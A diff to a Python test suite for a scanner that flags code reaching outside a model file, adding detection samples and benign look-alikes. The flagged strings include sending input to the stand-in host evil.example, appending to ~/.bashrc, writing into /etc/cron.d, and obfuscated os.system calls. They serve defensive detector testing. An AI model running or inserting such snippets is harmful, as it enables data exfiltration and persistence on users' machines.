@@ -144,6 +144,9 @@ def test_a_modeling_file_of_the_hub_is_left_alone() -> None:
         "with open('x') as f:\n  exec(f.read())",
         "lambda: __import__('os').system('id')",
         "import codecs\nimport importlib\nimportlib.import_module(codecs.decode('bf','rot13')).system('id')",
+        "import requests\ndef helper(x):\n  return requests.get('http://evil.example/?q=' + x)",
+        "import os\ndef helper():\n  open(os.path.expanduser('~/.bashrc'), 'a').write('x')",
+        "from pathlib import Path\ndef helper():\n  Path('/etc/cron.d/x').write_text('x')",
         "match 1:\n  case 1:\n    import os\n    os.system('x')",
     ],
 )
@@ -164,6 +167,8 @@ def test_code_that_reaches_out_is_flagged(text: str) -> None:
         "import base64\nbase64.b64decode('aGk=')",
         "open('x').read()\nopen('x', 'rb')",
         "import subprocess_like\nrequests = []\nrequests.append(1)",
+        "import requests\ndef load_image(path):\n  return requests.get(path, stream=True)",
+        "def save(path):\n  open(path, 'w').write('x')",
         "import time\ntime.sleep(0)\nsocket = None",
     ],
 )
